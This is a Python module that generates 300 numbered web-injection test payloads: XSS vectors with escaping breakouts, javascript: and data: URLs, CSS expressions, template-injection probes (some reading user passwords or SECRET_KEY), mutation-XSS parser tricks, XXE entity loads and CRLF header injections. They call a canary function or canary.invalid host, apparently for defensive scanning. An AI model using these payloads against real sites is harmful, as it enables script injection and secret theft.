"""300 texts that run, load or evaluate something where a page does not escape them, each with its own number.

What runs calls ``z(NUMBER)`` or asks for http://canary.invalid/NUMBER; what a template engine evaluates
shows ``EVALUATED``. ``SHORT`` are pieces of markup for fields with no room for any of them.
"""

from __future__ import annotations

import base64

COUNT = 300
EVALUATED = str(1337 * 7331)
_SUM = "1337*7331"
#: what stands before a vector, to get out of where the text is put
_BREAKS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</option></select>", "]]>",
    "</noscript>", "`>", "</a>", "</td></tr></table>", "\\\">", "&quot;>", "</svg>", "</template>",
)  # fmt: skip
#: what runs by itself once it is markup
_VECTORS = (
    "<script>z({n})</script>", "<svg/onload=z({n})>", "<img src=x onerror=z({n})>", "<body onload=z({n})>",
    "<ScRiPt >z({n})</sCrIpT >", "<IMG SRC=x OnErRoR='z({n})'>", "<svg><script>z({n})</script></svg>",
    "<iframe src=javascript:parent.z({n})></iframe>", "<iframe srcdoc='<script>parent.z({n})</script>'></iframe>",
    "<input autofocus onfocus=z({n})>", "<select autofocus onfocus=z({n})></select>",
    "<textarea autofocus onfocus=z({n})></textarea>", "<button autofocus onfocus=z({n})>b</button>",
    "<a href=# autofocus tabindex=0 onfocus=z({n})>a</a>", "<details open ontoggle=z({n})>d</details>",
    "<video><source onerror=z({n})></video>", "<audio src=x onerror=z({n})></audio>",
    "<video src=x onerror=z({n})></video>", "<style onload=z({n})></style>", "<marquee onstart=z({n})>m</marquee>",
    "<svg><animate onbegin=z({n}) attributeName=x dur=1s></svg>", "<svg><set onbegin=z({n}) attributeName=x></svg>",
    "<link rel=stylesheet href=x onerror=z({n})>", "<script src=x onerror=z({n})></script>",
    "<script src=data:,z({n})></script>", "<script>eval('z({n})')</script>", "<script>z`{n}`</script>",
    "<img/src=x/onerror=z({n})>", "<img\nsrc=x\nonerror=z({n})>", "<img\tsrc=x\tonerror\t=\tz({n})>",
    "<img src=x onerror=&#122;({n})>", "<img src=x onerror=\\u007a({n})>", "<img src=\"x\" onerror=\"z({n})\">",
    "<img src=http://canary.invalid/{n}>", "<link rel=stylesheet href=//canary.invalid/{n}>",
    "<style>@import '//canary.invalid/{n}';</style>", "<object data=javascript:z({n})></object>",
    "<embed src=//canary.invalid/{n}>", "<object data=//canary.invalid/{n}></object>",
    "<iframe src=//canary.invalid/{n}></iframe>", "<script src=//canary.invalid/{n}></script>",
    "<svg><image href=//canary.invalid/{n} /></svg>", "<svg><a><animate attributeName=href values=javascript:z({n}) /></a></svg>",
    "<math><mtext><img src=x onerror=z({n})></mtext></math>", "<meta http-equiv=refresh content='0;url=//canary.invalid/{n}'>",
    "<form action=javascript:z({n})><input type=submit></form>", "<button form=f formaction=javascript:z({n})>b</button>",
    "<base href=//canary.invalid/{n}/>", "<div onpointerenter=z({n}) style=position:fixed;inset:0>d</div>",
    "<q oncontentvisibilityautostatechange=z({n}) style=display:block;content-visibility:auto>q</q>",
)  # fmt: skip
#: whole texts, for one place each
_WHOLE = (
    # out of an attribute
    "\" autofocus tabindex=0 onfocus=z({n}) x=\"", "' autofocus tabindex=0 onfocus=z({n}) x='",
    "\" onmouseover=z({n}) \"", "x onerror=z({n}) ", "\" style=background:url(//canary.invalid/{n}) \"",
    "\"onfocus=\"z({n})\"autofocus=\"", "\" accesskey=x onclick=z({n}) x=\"",
    # out of a script's string
    "';z({n});//", "\";z({n});//", "\\';z({n});//", "\\\";z({n});//", "'-z({n})-'", "\"-z({n})-\"", "${{z({n})}}",
    "`;z({n});`", "*/z({n})/*", "\\u0027;z({n});//", "\\x27;z({n});//", "\n;z({n})//", "\u2028;z({n})//",
    "</script><script>z({n})</script>", "</ScRiPt><svg/onload=z({n})>", "<!--<script>z({n})//", "]}};z({n});//",
    "'+z({n})+'", "\"}};z({n});{{\"", "<\\/script><script>z({n})</script>", "');z({n});('", "\\\\');z({n})//",
    # addresses
    "javascript:z({n})", "JaVaScRiPt:z({n})", "java\tscript:z({n})", " javascript:z({n})", "javascript://%0az({n})",
    "javascript:/*--></title></style></textarea></script><svg/onload=z({n})>", "data:text/html,<script>parent.z({n})</script>",
    "data:text/html;base64,{b}", "vbscript:z({n})", "//canary.invalid/{n}", "\\\\canary.invalid/{n}",
    "https://canary.invalid/{n}", "http://canary.invalid/{n}\"><script>z({n})</script>", "javascript&colon;z({n})",
    "&#106;avascript:z({n})", "view-source:javascript:z({n})", "feed:javascript:z({n})", "blob:z({n})",
    # style
    "</style><img src=x onerror=z({n})>", "}}*{{background:url(//canary.invalid/{n})}}", "x:expression(z({n}))",
    ";background:url(javascript:z({n}))", "<style>*{{background:url(//canary.invalid/{n})}}</style>",
    "@import '//canary.invalid/{n}';", "<div style=width:expression(z({n}))>", "<link rel=import href=//canary.invalid/{n}>",
    # templates
    "{{{{" + _SUM + "}}}}{n}", "${{" + _SUM + "}}{n}", "#{{" + _SUM + "}}{n}", "<%= " + _SUM + " %>{n}", "[[" + _SUM + "]]{n}",
    "{{{{constructor.constructor('z({n})')()}}}}", "{{% debug %}}{n}", "{{{{ request.user.password }}}}{n}",
    "{{% load static %}}{{{{ settings.SECRET_KEY }}}}{n}", "%(message)s {n}", "{{0.__class__}} {n}", "${{{{" + _SUM + "}}}}{n}",
    "<!--#echo var=\"{n}\" -->", "<?php echo " + _SUM + "; ?>{n}", "{{{{'7'*7}}}}{n}", "@(" + _SUM + "){n}", "*{{" + _SUM + "}}{n}",
    # written twice, or in another encoding
    "&lt;script&gt;z({n})&lt;/script&gt;", "&lt;img src=x onerror=z({n})&gt;", "&amp;lt;svg/onload=z({n})&amp;gt;",
    "&#60;img src=x onerror=z({n})&#62;", "&#x3c;svg/onload=z({n})&#x3e;", "%3Csvg/onload=z({n})%3E",
    "%253Csvg/onload=z({n})%253E", "\\u003cimg src=x onerror=z({n})\\u003e", "\\x3cimg src=x onerror=z({n})\\x3e",
    "\\074img src=x onerror=z({n})\\076", "+ADw-script+AD4-z({n})+ADw-/script+AD4-", "\uff1cimg src=x onerror=z({n})\uff1e",
    "\u02c2script\u02c3z({n})", "<\u200bscript>z({n})</script>", "\u202e<svg/onload=z({n})>", "\ufeff<svg/onload=z({n})>",
    "<svg/onload\u00a0=z({n})>", "<\u017fcript>z({n})</\u017fcript>", "<sc<script>ript>z({n})</sc</script>ript>", "<<script>z({n})//<</script>",
    "<script\n>z({n})</script\n>", "<script/x>z({n})</script>", "<svg onload=z({n})//", "<img src=x onerror=z({n})//",
    "<iframe/onload=z({n})//", "<a/href=javascript:z({n})>a</a>", "<a href='java&#10;script:z({n})'>a</a>",
    # what a parser makes of it the second time
    "<noscript><p title=\"</noscript><img src=x onerror=z({n})>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=z({n})>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=z({n})&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=z({n})>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=z({n})>\">",
    "<template><script>z({n})</script></template><img src=x onerror=z({n})>", "<textarea><img title=\"</textarea><img src=x onerror=z({n})>\">",
    "<xmp><p title=\"</xmp><svg/onload=z({n})>\">", "<noembed><p title=\"</noembed><svg/onload=z({n})>\">",
    "<svg><foreignObject><math><mi><style><img src=x onerror=z({n})></style>", "<table><td><svg><desc><td><img src=x onerror=z({n})>",
    "<listing>&lt;img src=x onerror=z({n})&gt;</listing>", "<plaintext><img src=x onerror=z({n})>",
    # XML, calendars, mail
    "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">z({n})</script>", "<?xml-stylesheet href=\"//canary.invalid/{n}\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"//canary.invalid/{n}\">]>&e;", "<xsl:value-of select=\"{n}\"/>", "&{n};",
    "<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">z({n})</html:script>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">z({n})</x:script>",
    "x\nATTACH:http://canary.invalid/{n}", "x\r\nBEGIN:VALARM\r\nDESCRIPTION:{n}", "x\nBcc: {n}@canary.invalid", "x\nLocation: //canary.invalid/{n}",
)  # fmt: skip
SHORT = (
    "<q>",
    "\"'<",
    "<q ",
    "'>",
    "&lt",
    "{{7",
    "<!-",
    "</a",
    "${7",
    "]]>",
    "<s>",
    '\\">',
    "&#6",
    "%3C",
    "</q",
)


def _made() -> list[str]:
    texts = [*_VECTORS, *_WHOLE]
    for at in range(COUNT - len(texts)):
        texts.append(_BREAKS[1 + at % (len(_BREAKS) - 1)] + _VECTORS[at * 7 % len(_VECTORS)])
    return [text.format(n=number, b=_packed(number)) for number, text in enumerate(texts, start=1)]


def _packed(number: int) -> str:
    return base64.b64encode(f"<script>parent.z({number})</script>".encode()).decode()


PAYLOADS = _made()
assert len(set(PAYLOADS)) == COUNT
